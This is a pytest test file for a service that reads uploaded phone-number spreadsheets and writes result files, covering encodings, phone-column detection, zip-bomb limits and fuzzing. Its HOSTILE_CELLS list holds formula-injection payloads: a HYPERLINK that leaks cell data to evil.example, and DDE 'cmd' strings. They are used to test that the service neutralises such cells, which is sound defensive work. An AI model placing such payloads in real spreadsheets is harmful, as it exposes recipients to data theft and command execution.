from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import pickle
import re
import time
import zipfile
from collections.abc import Sequence
from typing import get_args

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from services import spreadsheet
from services.phones import PhoneError
from services.spreadsheet import (
    ARCHIVE_MAX_ENTRIES,
    MAX_COLUMN_NAME,
    MAX_COLUMNS,
    ErrorKind,
    InvalidRow,
    SpreadsheetError,
    Table,
    TooLarge,
    TooManyRows,
    TooSlow,
    UnsupportedFormat,
    check_archive,
    find_phone_column,
    prepare_recipients,
    read_table,
    write_result,
)
from tests.support.uploads import xlsx_bomb, xlsx_of_many_entries


def make_xlsx(rows: Sequence[Sequence[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def table_from(text: str, file_name: str = "list.csv") -> Table:
    return read_table(text.encode(), file_name)


# --- encodings and delimiters ----------------------------------------------------------------

CYRILLIC_CSV = "Телефон;Имя\n998901234567;Алишер Усмонов\n+998 93 765 43 21;Шаҳзода\n"


@pytest.mark.parametrize(
    ("data", "second_name"),
    [
        pytest.param(CYRILLIC_CSV.encode("utf-8"), "Шаҳзода", id="utf-8"),
        pytest.param(CYRILLIC_CSV.encode("utf-8-sig"), "Шаҳзода", id="utf-8-sig"),
        # Windows-1251 has no Uzbek "ҳ"; people type "х" in it.
        pytest.param(CYRILLIC_CSV.replace("ҳ", "х").encode("cp1251"), "Шахзода", id="cp1251"),
        # Excel's "Unicode text" export: UTF-16 with BOM, tab-separated.
        pytest.param(CYRILLIC_CSV.replace(";", "\t").encode("utf-16"), "Шаҳзода", id="utf-16"),
    ],
)
def test_cyrillic_names_survive_every_encoding(data: bytes, second_name: str) -> None:
    table = read_table(data, "spisok.csv")

    assert table.columns == ["Телефон", "Имя"]
    assert table.rows == [
        ["998901234567", "Алишер Усмонов"],
        ["+998 93 765 43 21", second_name],
    ]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_delimiters_and_quoted_fields(delimiter: str) -> None:
    d = delimiter
    text = (
        f"phone{d}name{d}address\n"
        f'998901234567{d}"Karimov, Jasur"{d}"Toshkent{d} Chilonzor"\n'
        f'998931112233{d}Aziza{d}"she said ""hi"""\n'
    )

    table = table_from(text)

    assert table.columns == ["phone", "name", "address"]
    assert table.rows == [
        ["998901234567", "Karimov, Jasur", f"Toshkent{d} Chilonzor"],
        ["998931112233", "Aziza", 'she said "hi"'],
    ]


def test_without_header_columns_get_spreadsheet_letters() -> None:
    table = table_from("998901234567,Ali\n998931112233,Vali\n")

    assert not table.has_header
    assert table.columns == ["A", "B"]
    assert table.row_numbers[0] == 1
    assert table.rows[1] == ["998931112233", "Vali"]


def test_header_row_is_detected_and_not_data() -> None:
    table = table_from("\n\nIsm,Telefon\nAli,998901234567\n")

    assert table.has_header
    assert table.columns == ["Ism", "Telefon"]
    assert table.row_numbers[0] == 4


def test_first_row_with_a_phone_is_data_even_with_text() -> None:
    table = table_from("Ali,998901234567\nVali,998931112233\n")

    assert not table.has_header
    assert len(table.rows) == 2


def test_ragged_rows_are_padded_and_blank_or_duplicate_headers_named() -> None:
    table = table_from("Ism,,ism,{Summa}\nAli,x\nVali,y,z,1,extra\n")

    assert table.columns == ["Ism", "B", "ism (C)", "Summa", "E"]
    assert table.rows == [["Ali", "x", "", "", ""], ["Vali", "y", "z", "1", "extra"]]


# --- pasted text ---------------------------------------------------------------------------


def test_pasted_numbers_one_per_line() -> None:
    table = read_table(b"+998 90 123 45 67\n\n901112233\n'998931112233\n", "")

    assert table.format == "text"
    assert table.columns == ["A"]
    assert table.rows == [["+998 90 123 45 67"], ["901112233"], ["998931112233"]]
    assert table.row_numbers == [1, 3, 4]


def test_pasted_phone_name_lines_are_split_without_header() -> None:
    table = read_table(b"Telefon, Ism\n901234567, Ali\n931112233, Vali\n", "paste.txt")

    assert table.format == "text"
    assert not table.has_header  # pasted text is all data; a bad first line is reported
    assert table.rows[1:] == [["901234567", "Ali"], ["931112233", "Vali"]]


# --- the phone column --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    ["Telefon raqami", "TELEFON", "raqam", "Номер телефона", "телефон", "Phone number", " Tel. ",
     "Mobile", "msisdn", "Nomer"],
)  # fmt: skip
def test_phone_column_by_header_name(header: str) -> None:
    # Both columns hold phones; the name decides.
    table = table_from(f"Otasining raqami;{header}\n998901234567;998931112233\n")

    assert find_phone_column(table) == 1


def test_phone_column_by_content_when_no_name_matches() -> None:
    table = table_from(
        "Ism,Kod,Aloqa\nAli,17,90 123 45 67\nVali,18,+998 93 111 22 33\nSoli,19,xato\n"
    )

    assert find_phone_column(table) == 2


def test_phone_column_by_content_without_header() -> None:
    table = table_from("Ali,901234567\nVali,931112233\n")

    assert find_phone_column(table) == 1


def test_named_column_of_order_numbers_loses_to_a_column_of_phones() -> None:
    table = table_from("Number,Client\n1001,998901234567\n1002,998931112233\n")

    assert find_phone_column(table) == 1


def test_no_phone_column_anywhere() -> None:
    assert find_phone_column(table_from("Ism,Yosh\nAli,20\nVali,30\n")) is None


def test_named_column_is_still_chosen_when_no_column_has_phones() -> None:
    assert find_phone_column(table_from("Ism,Telefon\nAli,12\nVali,x\n")) == 1


# --- Excel cells ----------------------------------------------------------------------------


def test_excel_numbers_apostrophes_dates_and_blanks() -> None:
    data = make_xlsx(
        [
            ["Telefon", "Ism", "Sana", "Summa"],
            [998901234567.0, "Ali", dt.datetime(2024, 5, 1), 12.5],
            ["'998931112233", " Vali ", dt.date(2024, 5, 2), 150000],
            [None, None, None, None],
            [901112233, None, dt.datetime(2024, 5, 3, 14, 30), 0.1 + 0.2],
            [9.98951234567e11, "'Ali", None, True],  # an apostrophe before a name is the name's
        ]
    )

    table = read_table(data, "mijozlar.xlsx")

    assert table.format == "xlsx"
    assert table.columns == ["Telefon", "Ism", "Sana", "Summa"]
    assert table.rows == [
        ["998901234567", "Ali", "2024-05-01", "12.5"],
        ["998931112233", "Vali", "2024-05-02", "150000"],
        ["901112233", "", "2024-05-03 14:30:00", "0.3"],
        ["998951234567", "'Ali", "", "TRUE"],
    ]
    assert table.row_numbers == [2, 3, 5, 6]


def test_excel_phone_float_and_apostrophe_string_are_one_recipient() -> None:
    data = make_xlsx([["Phone"], [998901234567.0], ["'998901234567"], ["'+998 90 123-45-67"]])

    recipients = prepare_recipients(read_table(data, "a.xlsx"), 0)

    assert [r.phone for r in recipients.valid] == ["998901234567"]
    assert recipients.duplicates == 2


def test_excel_sheet_with_a_wrong_declared_size_is_read_whole() -> None:
    data = make_xlsx([["Phone"], *([f"99890123456{i}"] for i in range(5))])
    # Some generators declare a size that does not match the data; trust the rows.
    patched = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(patched, "w") as target:
        for item in source.infolist():
            content = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                content = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:A2"', content)
            target.writestr(item, content)

    table = read_table(patched.getvalue(), "a.xlsx")

    assert len(table.rows) == 5


def test_columns_past_the_limit_are_dropped() -> None:
    header = [f"c{i}" for i in range(MAX_COLUMNS + 3)]
    row = ["998901234567", *["x"] * (MAX_COLUMNS + 2)]
    table = read_table(make_xlsx([header, row]), "wide.xlsx")

    assert table.columns == header[:MAX_COLUMNS]
    assert table.rows == [row[:MAX_COLUMNS]]


def test_xlsx_under_a_csv_name_is_read_as_xlsx() -> None:
    table = read_table(make_xlsx([["Telefon"], ["998901234567"]]), "renamed.csv")

    assert (table.format, table.rows) == ("xlsx", [["998901234567"]])


# --- refusals ---------------------------------------------------------------------------------


def test_fifty_thousand_rows_are_accepted() -> None:
    text = "phone\n" + "".join(f"{998900000000 + i}\n" for i in range(50_000))

    table = table_from(text)

    assert len(table.rows) == 50_000
    assert table.row_numbers[-1] == 50_001


def test_fifty_thousand_and_one_rows_are_refused_with_the_count() -> None:
    text = "".join(f"{998900000000 + i}\n" for i in range(50_001))

    with pytest.raises(TooManyRows) as caught:
        table_from(text)

    assert (caught.value.limit, caught.value.found_at_least) == (50_000, 50_001)
    assert caught.value.kind == "too_many_rows"


def test_too_many_xlsx_rows_are_refused() -> None:
    data = make_xlsx([["Phone"], *([f"9989012345{i:02d}"] for i in range(11))])

    assert len(read_table(data, "a.xlsx", max_rows=11).rows) == 11
    with pytest.raises(TooManyRows) as caught:
        read_table(data, "a.xlsx", max_rows=10)
    assert caught.value.found_at_least > 10


@pytest.mark.parametrize(
    ("data", "file_name", "kind"),
    [
        (b"", "a.csv", "empty"),
        (b"", "a.xlsx", "empty"),
        (b"\n \r\n\t\n", "a.csv", "empty"),
        (b"\xef\xbb\xbf", "a.csv", "empty"),
        (b";;;\n,,,\n", "a.csv", "empty"),
        (b"Telefon,Ism\n", "a.csv", "empty"),  # a header alone
        (b"PK\x03\x04 definitely not a zip", "a.xlsx", "corrupt"),
        (b"hello, this is text", "a.xlsx", "corrupt"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old.xls", "format"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "renamed.xlsx", "format"),
        (b"%PDF-1.4", "list.pdf", "format"),
        (b"998901234567", "list.docx", "format"),
        (b"998\x00901\x00", "a.csv", "corrupt"),
        (b"\x98\x98", "a.csv", "encoding"),
    ],
)
def test_unreadable_files_are_refused_by_kind(data: bytes, file_name: str, kind: str) -> None:
    with pytest.raises(SpreadsheetError) as caught:
        read_table(data, file_name)

    assert caught.value.kind == kind


def test_truncated_xlsx_is_corrupt() -> None:
    data = make_xlsx([["Phone"], ["998901234567"]])

    with pytest.raises(SpreadsheetError) as caught:
        read_table(data[: len(data) // 2], "a.xlsx")

    assert caught.value.kind == "corrupt"


def test_empty_xlsx_sheet_is_empty() -> None:
    with pytest.raises(SpreadsheetError) as caught:
        read_table(make_xlsx([]), "a.xlsx")

    assert caught.value.kind == "empty"


# --- archive bombs ---------------------------------------------------------------------------


def test_zip_bomb_is_refused_before_it_is_inflated() -> None:
    bomb = xlsx_bomb(300 * 1024 * 1024)
    assert len(bomb) < 2 * 1024 * 1024

    started = time.monotonic()
    with pytest.raises(TooLarge):
        read_table(bomb, "debtors.xlsx")

    assert time.monotonic() - started < 1.0  # refused from the directory, nothing parsed


def test_archive_of_a_hundred_thousand_entries_is_refused() -> None:
    with pytest.raises(TooLarge):
        read_table(xlsx_of_many_entries(100_000), "list.xlsx")


@pytest.mark.parametrize(
    ("entries", "content", "refused"),
    [
        (ARCHIVE_MAX_ENTRIES - 20, b"", False),  # the workbook's own entries on top: under
        (ARCHIVE_MAX_ENTRIES + 1, b"", True),
        # One entry inflating 200 times: over the ratio, far under the sizes.
        (1, b"0" * (2 * 1024 * 1024), True),
        # Small entries compress as they like: a run of empty cells is no bomb.
        (1, b"0" * (512 * 1024), False),
    ],
)
def test_archive_limits(entries: int, content: bytes, refused: bool) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for n in range(entries):
            archive.writestr(f"xl/media/{n}", content)
    archive_bytes = buffer.getvalue()

    if refused:
        with pytest.raises(TooLarge):
            check_archive(archive_bytes)
    else:
        check_archive(archive_bytes)


def test_spreadsheet_errors_survive_the_trip_between_processes() -> None:
    for error in (TooManyRows(50, 53), UnsupportedFormat(".xls"), TooLarge("x"), TooSlow("y")):
        copy = pickle.loads(pickle.dumps(error))
        assert (type(copy), copy.kind, str(copy)) == (type(error), error.kind, str(error))
    assert pickle.loads(pickle.dumps(TooManyRows(50, 53))).found_at_least == 53


# --- long column names -----------------------------------------------------------------------


def test_long_header_names_are_clipped_and_stay_unique() -> None:
    long_name = "Customer " + "x" * 5000
    table = table_from(f"phone,{long_name},{long_name}\n998901234567,Ali,Vali\n")

    assert table.columns[0] == "phone"
    assert all(len(name) <= 64 for name in table.columns)  # 60 and " (C)"
    assert table.columns[1] == long_name[:MAX_COLUMN_NAME]
    assert table.columns[2] == long_name[:MAX_COLUMN_NAME] + " (C)"


# --- recipients ----------------------------------------------------------------------------


def test_recipients_keep_file_order_and_drop_repeated_numbers() -> None:
    table = table_from(
        "Ism,Telefon\n"
        "Ali,+998 90 123 45 67\n"
        "Vali,931112233\n"
        "Ali again,901234567\n"
        "Ali thrice,8 90 123 45 67\n"
        "Soli,998951234567\n"
    )

    recipients = prepare_recipients(table, 1)

    assert [(r.row_no, r.phone) for r in recipients.valid] == [
        (2, "998901234567"),
        (3, "998931112233"),
        (6, "998951234567"),
    ]
    assert recipients.valid[0].fields == {"Ism": "Ali", "Telefon": "+998 90 123 45 67"}
    assert recipients.duplicates == 2
    assert recipients.invalid == []


def test_invalid_rows_carry_file_line_numbers_and_reasons() -> None:
    table = table_from(
        "Ism;Telefon\n"  # line 1
        "Ali;998901234567\n"  # 2
        "\n"  # 3: blank, skipped but counted
        "Vali;12345\n"  # 4
        '"Soli\n(multi-line name)";salom\n'  # 5-6
        "Guli;\n"  # 7
        "Bobur;+998 90 123 45 67 89 01\n"  # 8
    )

    recipients = prepare_recipients(table, 1)

    assert recipients.invalid == [
        InvalidRow(4, "12345", PhoneError.TOO_SHORT),
        InvalidRow(5, "salom", PhoneError.NOT_A_NUMBER),
        InvalidRow(7, "", PhoneError.EMPTY),
        InvalidRow(8, "+998 90 123 45 67 89 01", PhoneError.TOO_LONG),
    ]
    assert [r.row_no for r in recipients.valid] == [2]


def test_phone_column_out_of_range_is_a_programming_error() -> None:
    with pytest.raises(IndexError):
        prepare_recipients(table_from("998901234567\n"), 1)


# --- result files ---------------------------------------------------------------------------

RESULT_HEADER = ["Telefon", "Ism", "Holat", "Qismlar"]
RESULT_ROWS: list[list[object]] = [
    ["998901234567", "Алишер", "yetkazildi", 1],
    ["998931112233", 'Karimov, "Jasur"', "=xato", 2],
    ["998951234567", "Ali\x01Vali", None, 0],
]


def test_csv_result_opens_in_excel_and_reads_back() -> None:
    data = write_result("csv", RESULT_HEADER, RESULT_ROWS)

    assert data.startswith(b"\xef\xbb\xbf")
    table = read_table(data, "result.csv")
    assert table.columns == RESULT_HEADER
    assert table.rows == [
        ["998901234567", "Алишер", "yetkazildi", "1"],
        ["998931112233", 'Karimov, "Jasur"', "'=xato", "2"],  # not a formula (see below)
        ["998951234567", "Ali\x01Vali", "", "0"],
    ]


def test_xlsx_result_reads_back_with_text_kept_as_text() -> None:
    data = write_result("xlsx", RESULT_HEADER, iter(RESULT_ROWS))

    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet["A2"].value == "998901234567"  # text, so Excel does not show 9.98901E+11
    assert sheet["C3"].data_type == "s"  # "=xato" is user text, not a formula
    assert read_table(data, "result.xlsx").rows == [
        ["998901234567", "Алишер", "yetkazildi", "1"],
        ["998931112233", 'Karimov, "Jasur"', "'=xato", "2"],
        ["998951234567", "AliVali", "", "0"],  # control characters are illegal in XLSX
    ]


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written_cells(fmt: str, data: bytes) -> list[list[object]]:
    """The cells as the file holds them, read without our reader (which strips quotes)."""
    if fmt == "csv":
        return [list(row) for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))]
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cells_that_a_spreadsheet_would_run_are_neutralised(fmt: str) -> None:
    rows = [[n, cell, "ok"] for n, cell in enumerate(HOSTILE_CELLS)] + [[-5, "-", None]]

    data = write_result("csv" if fmt == "csv" else "xlsx", ["row", "value", "note"], rows)

    header, *cells = written_cells(fmt, data)
    assert header == ["row", "value", "note"]
    values = [row[1] for row in cells]
    expected = ["'" + cell for cell in HOSTILE_CELLS] + ["'-"]
    if fmt == "xlsx":  # XML reads a CR back as LF
        expected = [cell.replace("\r", "\n") for cell in expected]
    assert values == expected
    assert cells[-1][0] == ("-5" if fmt == "csv" else -5)  # a number, not a formula


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_phones_the_bot_writes_keep_their_plus_in_its_own_columns_only(fmt: str) -> None:
    rows = [["+998901234567", "+998901234567"], ["=1+1", "998901234567"]]

    data = write_result(
        "csv" if fmt == "csv" else "xlsx", ["phone", "value"], rows, own_columns=(0,)
    )

    assert written_cells(fmt, data)[1:] == [
        ["+998901234567", "'+998901234567"],  # a text cell in XLSX: shown as typed
        ["'=1+1", "998901234567"],  # the bot's column still takes no formula
    ]


# --- never anything but our errors ----------------------------------------------------------

_VALID_XLSX = make_xlsx([["Telefon", "Ism"], [998901234567.0, "Ali"], ["'901234567", "Vali"]])


@st.composite
def damaged_xlsx(draw: st.DrawFn) -> bytes:
    data = bytearray(_VALID_XLSX)
    for _ in range(draw(st.integers(1, 8))):
        position = draw(st.integers(0, len(data) - 1))
        data[position] = draw(st.integers(0, 255))
    return bytes(data[: draw(st.integers(0, len(data)))])


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
)
@given(
    data=st.one_of(st.binary(max_size=2048), damaged_xlsx(), st.text().map(str.encode)),
    file_name=st.sampled_from(["a.csv", "a.xlsx", "a.txt", "", "A.TSV"]),
)
def test_read_table_raises_only_its_own_errors(data: bytes, file_name: str) -> None:
    try:
        table = read_table(data, file_name, max_rows=20)
    except SpreadsheetError:
        return
    assert table.rows
    assert all(len(row) == len(table.columns) for row in table.rows)
    assert len(table.row_numbers) == len(table.rows)


@functools.cache
def bombs() -> list[bytes]:
    # 20 MB inflated from some tens of KB: over the ratio; and one entry too many.
    return [xlsx_bomb(20 * 1024 * 1024), xlsx_of_many_entries(ARCHIVE_MAX_ENTRIES)]


@st.composite
def bombed_archive(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(bombs())))
    # Flipped bytes in the central directory change declared sizes and counts.
    for _ in range(draw(st.integers(0, 4))):
        position = draw(st.integers(max(0, len(data) - 4096), len(data) - 1))
        data[position] = draw(st.integers(0, 255))
    return bytes(data[: draw(st.sampled_from([len(data), len(data) - 1, len(data) // 2, 30]))])


@st.composite
def oddly_encoded_text(draw: st.DrawFn) -> bytes:
    cells = st.one_of(
        st.text(max_size=30),
        st.sampled_from(["998901234567", "+998 (90) 123-45-67", "Алишер", "Шаҳзода", '"', "'9"]),
    )
    lines = draw(st.lists(st.lists(cells, max_size=5), max_size=20))
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    endings = st.sampled_from(["\n", "\r\n", "\r"])
    text = "".join(delimiter.join(line) + draw(endings) for line in lines)
    if draw(st.booleans()):
        position = draw(st.integers(0, len(text)))
        text = text[:position] + "\x00" + text[position:]
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1251"]))
    return text.encode(encoding, errors="replace")


@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    data=st.one_of(bombed_archive(), damaged_xlsx(), oddly_encoded_text(), st.binary()),
    file_name=st.sampled_from(["a.csv", "a.xlsx", "a.txt", "a.tsv"]),
)
def test_upload_fuzz_gets_a_table_or_our_error_quickly(data: bytes, file_name: str) -> None:
    started = time.monotonic()
    try:
        table = read_table(data, file_name, max_rows=1000)
    except SpreadsheetError as exc:
        assert exc.kind in get_args(ErrorKind)  # each kind has its translated message
    else:
        assert all(len(row) == len(table.columns) for row in table.rows)
    assert time.monotonic() - started < 5.0


def test_a_list_of_more_cells_than_the_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet, "MAX_CELLS", 3 * 4)
    rows = ["phone,name,city", *(f"99890123456{n},A,B" for n in range(4))]
    assert len(read_table(("\n".join(rows) + "\n").encode(), "list.csv").rows) == 4

    wider = ["phone,name,city,extra", *(f"99890123456{n},A,B,C" for n in range(4))]
    with pytest.raises(TooLarge):
        read_table(("\n".join(wider) + "\n").encode(), "list.csv")
    with pytest.raises(TooLarge):
        read_table(("\n".join([*rows, "998901234569,A,B"]) + "\n").encode(), "list.csv")
